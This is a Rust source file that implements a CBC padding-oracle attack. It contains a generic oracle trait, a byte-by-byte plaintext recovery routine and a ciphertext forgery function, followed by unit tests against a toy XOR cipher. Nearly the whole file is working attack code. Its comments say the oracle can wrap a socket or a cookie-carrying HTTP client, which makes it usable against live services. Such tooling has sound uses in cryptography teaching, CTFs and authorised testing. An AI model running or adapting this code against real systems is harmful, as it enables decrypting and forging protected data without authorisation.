//! CBC padding-oracle decryption and ciphertext forgery.
//!
//! Ported from the reference `PaddingOracle.decrypt`/`fake_ciphertext` state machine,
//! byte-exact, with the oracle remodeled as a plain capability instead of a
//! `(payload, iv, previous_response)` triple (see `DESIGN.md`).

use crate::bytes::{chunks, xor_many};
use crate::error::{CryptoAttackError, Result};

/// A black-box distinguisher between valid and invalid PKCS#7 padding.
///
/// Implementations own whatever session state they need (a socket, an HTTP client
/// with cookies) by capturing it in the closure/struct; the core never threads a
/// `previous_response` value through the call.
pub trait PaddingOracle {
  /// Returns whether `iv || payload` decrypts to something with valid PKCS#7 padding.
  fn check(&mut self, iv: &[u8], payload: &[u8]) -> bool;
}

impl<F: FnMut(&[u8], &[u8]) -> bool> PaddingOracle for F {
  fn check(&mut self, iv: &[u8], payload: &[u8]) -> bool {
    self(iv, payload)
  }
}

/// Compatibility adapter for oracles written against the original
/// `(payload, iv, previous_response) -> (bool, response)` shape.
pub struct StatefulOracleAdapter<F, S> {
  oracle: F,
  state: Option<S>,
}

impl<F, S> StatefulOracleAdapter<F, S>
where
  F: FnMut(&[u8], &[u8], Option<S>) -> (bool, S),
{
  pub fn new(oracle: F) -> Self {
    Self { oracle, state: None }
  }
}

impl<F, S> PaddingOracle for StatefulOracleAdapter<F, S>
where
  F: FnMut(&[u8], &[u8], Option<S>) -> (bool, S),
{
  fn check(&mut self, iv: &[u8], payload: &[u8]) -> bool {
    let (correct, new_state) = (self.oracle)(payload, iv, self.state.take());
    self.state = Some(new_state);
    correct
  }
}

/// Compatibility entry point for oracles written against the original
/// `(payload, iv, previous_response) -> (bool, response)` shape.
#[allow(clippy::too_many_arguments)]
pub fn decrypt_with_stateful_oracle<F, S>(
  ciphertext: &[u8],
  block_size: usize,
  iv: Option<&[u8]>,
  is_correct: bool,
  amount: usize,
  known_plaintext: Option<&[u8]>,
  stateful_oracle: F,
) -> Result<Vec<u8>>
where
  F: FnMut(&[u8], &[u8], Option<S>) -> (bool, S),
{
  let mut adapter = StatefulOracleAdapter::new(stateful_oracle);
  decrypt(ciphertext, block_size, iv, is_correct, amount, known_plaintext, &mut adapter)
}

fn validate_block_size(block_size: usize) -> Result<()> {
  if block_size == 0 || block_size % 8 != 0 {
    return Err(CryptoAttackError::InvalidArgument(format!(
      "block size {block_size} must be a positive multiple of 8"
    )));
  }
  Ok(())
}

/// Decrypt `ciphertext` using a padding oracle.
///
/// * `iv`: if `None`, the first block of `ciphertext` is treated as the IV and is
///   never decrypted.
/// * `is_correct`: assert that `ciphertext` decrypts to something with valid
///   PKCS#7 padding; the engine discovers the real padding length on the first block.
/// * `amount`: `0` decrypts every data block; `k > 0` decrypts only the last `k`.
/// * `known_plaintext`: a padded suffix of the eventual plaintext, used to skip
///   already-known blocks/bytes.
pub fn decrypt(
  ciphertext: &[u8],
  block_size: usize,
  iv: Option<&[u8]>,
  mut is_correct: bool,
  amount: usize,
  known_plaintext: Option<&[u8]>,
  oracle: &mut dyn PaddingOracle,
) -> Result<Vec<u8>> {
  validate_block_size(block_size)?;
  if ciphertext.is_empty() || ciphertext.len() % block_size != 0 {
    return Err(CryptoAttackError::InvalidArgument(format!(
      "ciphertext length {} is not a positive multiple of {block_size}",
      ciphertext.len()
    )));
  }

  let mut blocks: Vec<Vec<u8>> = chunks(ciphertext, block_size)
    .into_iter()
    .map(|b| b.to_vec())
    .collect();

  if let Some(iv) = iv {
    if iv.len() != block_size {
      return Err(CryptoAttackError::InvalidArgument(format!(
        "iv length {} must equal block size {block_size}",
        iv.len()
      )));
    }
    blocks.insert(0, iv.to_vec());
  }

  let amount = if amount != 0 {
    blocks
      .len()
      .checked_sub(amount + 1)
      .ok_or_else(|| CryptoAttackError::InvalidArgument(format!("amount {amount} too large")))?
  } else {
    0
  };
  if amount >= blocks.len() {
    return Err(CryptoAttackError::InvalidArgument(format!(
      "amount of blocks to decrypt must be in [0, {}]",
      blocks.len() - 1
    )));
  }

  let mut plaintext: Vec<u8> = Vec::new();
  let mut position_known = 0usize;

  if let Some(kp) = known_plaintext {
    is_correct = false;
    plaintext = kp.to_vec();
    let blocks_decoded = plaintext.len() / block_size;
    let chars_decoded = plaintext.len() % block_size;

    if blocks_decoded == blocks.len() {
      return Ok(plaintext);
    }
    if blocks_decoded > blocks.len() - 1 {
      return Err(CryptoAttackError::InvalidArgument(
        "known_plaintext spans more blocks than the ciphertext has".into(),
      ));
    }
    if blocks_decoded != 0 {
      blocks.truncate(blocks.len() - blocks_decoded);
    }
    if chars_decoded != 0 {
      let idx = blocks.len() - 2;
      let tail_start = block_size - chars_decoded;
      let target = (chars_decoded + 1) as u8;
      let known_prefix = plaintext[..chars_decoded].to_vec();
      let tail = blocks[idx][tail_start..].to_vec();
      let new_tail = xor_many(&[&known_prefix, &tail, &[target]]);
      blocks[idx][tail_start..].copy_from_slice(&new_tail);
    }
    position_known = chars_decoded;
  }

  // Only meaningful while `is_correct` is true, which is only ever the case for
  // the very first position of the very first (last) block processed below.
  let original_prev_last_byte = blocks[blocks.len() - 2][block_size - 1];

  let mut count_block = blocks.len() - 1;
  while count_block > amount {
    log::debug!("decrypting block {count_block} of {}", blocks.len() - 1);
    let payload_prefix: Vec<u8> = blocks[..count_block - 1].concat();
    let mut payload_modify = blocks[count_block - 1].clone();
    let payload_decrypt = blocks[count_block].clone();

    let mut position = block_size as isize - 1 - position_known as isize;
    position_known = 0;

    while position >= 0 {
      let pos = position as usize;
      let mut found = false;

      for guess in 0u16..=255 {
        let guess = guess as u8;
        let mut modified = payload_modify.clone();
        modified[pos] = guess;
        let full: Vec<u8> = [payload_prefix.as_slice(), &modified, &payload_decrypt].concat();
        let (probe_iv, probe_payload) = full.split_at(block_size);

        if !oracle.check(probe_iv, probe_payload) {
          continue;
        }

        let padding = (block_size - pos) as u8;
        let decrypted_byte = payload_modify[pos] ^ guess ^ padding;

        if is_correct {
          // A guess reproducing the untampered byte always "succeeds" trivially;
          // it tells us nothing about the real padding length.
          if guess == original_prev_last_byte {
            continue;
          }
          let k = decrypted_byte;
          if k == 0 || k as usize > block_size {
            return Err(CryptoAttackError::BadPadding(k as u64));
          }
          plaintext = vec![k; k as usize];
          let tail_start = block_size - k as usize;
          let tail = payload_modify[tail_start..].to_vec();
          let new_tail = xor_many(&[&tail, &[k], &[k + 1]]);
          payload_modify[tail_start..].copy_from_slice(&new_tail);
          position = pos as isize - k as isize + 1;
          is_correct = false;
        } else {
          if pos == block_size - 1 {
            // First-byte false-positive check: confirm the accepted byte is
            // genuinely 0x01 and not the tail of a longer run (0x02 0x02, ...).
            let mut probe_modified = modified.clone();
            probe_modified[block_size - 2] = b'A';
            let probe_full: Vec<u8> =
              [payload_prefix.as_slice(), &probe_modified, &payload_decrypt].concat();
            let (probe_iv2, probe_payload2) = probe_full.split_at(block_size);
            if !oracle.check(probe_iv2, probe_payload2) {
              continue;
            }
          }

          let mut tail_src = vec![guess];
          tail_src.extend_from_slice(&payload_modify[pos + 1..]);
          let new_tail = xor_many(&[&tail_src, &[padding], &[padding + 1]]);
          payload_modify[pos..].copy_from_slice(&new_tail);
          plaintext.insert(0, decrypted_byte);
        }

        found = true;
        break;
      }

      position -= 1;
      if !found {
        if is_correct {
          payload_modify[pos] ^= 0x01 ^ 0x02;
          plaintext = vec![0x01];
          is_correct = false;
        } else {
          return Err(CryptoAttackError::OracleExhausted);
        }
      }
    }

    count_block -= 1;
  }

  log::trace!("recovered plaintext: {}", hex::encode(&plaintext));
  Ok(plaintext)
}

/// Forge a ciphertext (of length `|new_plaintext| + block_size`) that decrypts to
/// `new_plaintext` under the same (unknown) key as `original_ciphertext`.
pub fn fake_ciphertext(
  new_plaintext: &[u8],
  block_size: usize,
  original_ciphertext: Option<&[u8]>,
  iv: Option<&[u8]>,
  mut original_plaintext: Option<Vec<u8>>,
  oracle: &mut dyn PaddingOracle,
) -> Result<Vec<u8>> {
  validate_block_size(block_size)?;
  if new_plaintext.len() % block_size != 0 {
    return Err(CryptoAttackError::InvalidArgument(format!(
      "new plaintext length {} is not a multiple of {block_size}",
      new_plaintext.len()
    )));
  }

  let mut have_original_ciphertext = original_ciphertext.is_some();
  let ciphertext_owned: Vec<u8> = match original_ciphertext {
    Some(oc) => {
      if oc.len() % block_size != 0 {
        return Err(CryptoAttackError::InvalidArgument(format!(
          "original ciphertext length {} is not a multiple of {block_size}",
          oc.len()
        )));
      }
      oc.to_vec()
    }
    None => {
      if original_plaintext.is_some() {
        return Err(CryptoAttackError::InvalidArgument(
          "original plaintext given without original ciphertext".into(),
        ));
      }
      if iv.is_some() {
        return Err(CryptoAttackError::InvalidArgument(
          "iv given without original ciphertext".into(),
        ));
      }
      vec![b'A'; new_plaintext.len() + block_size]
    }
  };

  let mut blocks: Vec<Vec<u8>> = chunks(&ciphertext_owned, block_size)
    .into_iter()
    .map(|b| b.to_vec())
    .collect();
  let new_pl_blocks: Vec<Vec<u8>> = chunks(new_plaintext, block_size)
    .into_iter()
    .map(|b| b.to_vec())
    .collect();

  if let Some(iv) = iv {
    blocks.insert(0, iv.to_vec());
  }
  if new_pl_blocks.len() != blocks.len() - 1 {
    return Err(CryptoAttackError::InvalidArgument(format!(
      "new plaintext length {} should produce {} block(s), found {}",
      new_plaintext.len(),
      blocks.len() - 1,
      new_pl_blocks.len()
    )));
  }
  let mut new_ct_blocks = blocks.clone();

  if let Some(op) = original_plaintext.as_mut() {
    if op.len() > block_size {
      let start = op.len() - block_size;
      *op = op[start..].to_vec();
    }
  }

  for count_block in (1..blocks.len()).rev() {
    log::debug!("forging block {count_block} of {}", blocks.len() - 1);
    let ciphertext_slice: Vec<u8> = new_ct_blocks[..=count_block].concat();

    let block_plaintext = if original_plaintext.is_none() && !have_original_ciphertext {
      decrypt(&ciphertext_slice, block_size, None, false, 1, None, oracle)?
    } else if original_plaintext.is_some() && have_original_ciphertext {
      decrypt(
        &ciphertext_slice,
        block_size,
        None,
        true,
        1,
        original_plaintext.as_deref(),
        oracle,
      )?
    } else {
      decrypt(&ciphertext_slice, block_size, None, true, 1, None, oracle)?
    };

    new_ct_blocks[count_block - 1] = xor_many(&[
      &blocks[count_block - 1],
      &block_plaintext,
      &new_pl_blocks[count_block - 1],
    ]);

    original_plaintext = None;
    have_original_ciphertext = false;
  }

  Ok(new_ct_blocks.concat())
}

#[cfg(test)]
mod tests {
  use super::*;
  use crate::bytes::pkcs7_pad;

  const BLOCK_SIZE: usize = 16;

  /// A toy "encryption": decryption here is whatever makes the tests self-contained,
  /// namely the identity function XORed against a fixed per-block mask, with a real
  /// key schedule irrelevant to exercising the oracle state machine itself.
  struct ToyCbc {
    key: [u8; BLOCK_SIZE],
  }

  impl ToyCbc {
    fn block_decrypt(&self, block: &[u8]) -> Vec<u8> {
      xor_many(&[block, &self.key])
    }

    fn block_encrypt(&self, block: &[u8]) -> Vec<u8> {
      xor_many(&[block, &self.key])
    }

    fn encrypt(&self, plaintext: &[u8], iv: &[u8]) -> Vec<u8> {
      let mut prev = iv.to_vec();
      let mut out = Vec::new();
      for block in chunks(plaintext, BLOCK_SIZE) {
        let ct = self.block_encrypt(&xor_many(&[block, &prev]));
        out.extend_from_slice(&ct);
        prev = ct;
      }
      out
    }

    fn check_padding(&self, iv: &[u8], payload: &[u8]) -> bool {
      let mut prev = iv.to_vec();
      let mut plaintext = Vec::new();
      for block in chunks(payload, BLOCK_SIZE) {
        let decrypted = self.block_decrypt(block);
        plaintext.extend_from_slice(&xor_many(&[&decrypted, &prev]));
        prev = block.to_vec();
      }
      crate::bytes::pkcs7_validate(&plaintext, BLOCK_SIZE as u8).is_ok()
    }
  }

  #[test]
  fn decrypts_two_block_message_with_valid_padding_oracle() {
    let cipher = ToyCbc { key: [0x5au8; BLOCK_SIZE] };
    let iv = [0u8; BLOCK_SIZE];
    let plaintext = pkcs7_pad(b"YELLOW SUBMARINEYELLOW SUBMARINE", BLOCK_SIZE as u8);
    let ciphertext = cipher.encrypt(&plaintext, &iv);

    let mut full = iv.to_vec();
    full.extend_from_slice(&ciphertext);

    let mut oracle = |iv: &[u8], payload: &[u8]| cipher.check_padding(iv, payload);
    let recovered = decrypt(&full, BLOCK_SIZE, None, true, 0, None, &mut oracle).unwrap();

    let pad_len = crate::bytes::pkcs7_validate(&recovered, BLOCK_SIZE as u8).unwrap();
    assert_eq!(&recovered[..recovered.len() - pad_len], b"YELLOW SUBMARINEYELLOW SUBMARINE");
  }

  #[test]
  fn rejects_ciphertext_not_a_block_multiple() {
    let mut oracle = |_: &[u8], _: &[u8]| true;
    let err = decrypt(b"short", BLOCK_SIZE, None, true, 0, None, &mut oracle).unwrap_err();
    assert_matches::assert_matches!(err, CryptoAttackError::InvalidArgument(_));
  }

  #[test]
  fn oracle_always_false_exhausts() {
    let mut oracle = |_: &[u8], _: &[u8]| false;
    let ciphertext = vec![0u8; BLOCK_SIZE * 2];
    let err = decrypt(&ciphertext, BLOCK_SIZE, None, false, 0, None, &mut oracle).unwrap_err();
    assert_eq!(err, CryptoAttackError::OracleExhausted);
  }

  #[test]
  fn fake_ciphertext_round_trips_through_decrypt() {
    let cipher = ToyCbc { key: [0xa5u8; BLOCK_SIZE] };
    let new_plaintext = pkcs7_pad(b"attacker controlled!", BLOCK_SIZE as u8);

    let mut oracle = |iv: &[u8], payload: &[u8]| cipher.check_padding(iv, payload);
    let forged = fake_ciphertext(&new_plaintext, BLOCK_SIZE, None, None, None, &mut oracle).unwrap();

    let mut prev = forged[..BLOCK_SIZE].to_vec();
    let mut recovered = Vec::new();
    for block in chunks(&forged[BLOCK_SIZE..], BLOCK_SIZE) {
      let decrypted = cipher.block_decrypt(block);
      recovered.extend_from_slice(&xor_many(&[&decrypted, &prev]));
      prev = block.to_vec();
    }
    assert_eq!(recovered, new_plaintext);
  }
}
